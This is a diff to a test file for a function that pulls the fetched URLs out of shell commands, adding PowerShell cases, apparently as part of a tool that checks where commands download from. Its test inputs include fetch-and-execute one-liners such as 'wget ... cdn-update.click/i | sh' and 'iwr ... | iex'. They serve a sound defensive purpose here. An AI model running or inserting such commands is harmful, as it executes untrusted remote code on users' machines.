@@ -160,10 +160,17 @@ describe("provenanceOf: who controls the server", () => {
 });
 
 describe("commandUrls: what a command fetches", () => {
-  it("reads bare hosts given to curl and wget, not file names", () => {
+  it("reads bare hosts given to curl, wget and PowerShell's fetchers, not file names", () => {
     expect(commandUrls('sh -c "$(curl -fsLS get.chezmoi.io)"')).toEqual(["https://get.chezmoi.io/"]);
     expect(commandUrls("wget -qO- cdn-update.click/i | sh")).toEqual(["https://cdn-update.click/i"]);
     expect(commandUrls("curl -o install.sh x && sh install.sh")).toEqual([]);
+    // PowerShell's fetchers too, and a host that reads like a file name when a path follows it.
+    expect(commandUrls('powershell -c "irm bun.sh/install.ps1 | iex"')).toEqual([
+      "https://bun.sh/install.ps1",
+    ]);
+    expect(commandUrls("iwr -useb cdn-update.click/a.ps1 | iex")).toEqual(["https://cdn-update.click/a.ps1"]);
+    expect(commandUrls("curl -fsSL bun.sh/install | bash")).toEqual(["https://bun.sh/install"]);
+    expect(commandUrls("iwr setup.ps1")).toEqual([]);
     expect(commandUrls("curl -fsSL https://aspire.dev/install.sh | bash")).toEqual([
       "https://aspire.dev/install.sh",
     ]);
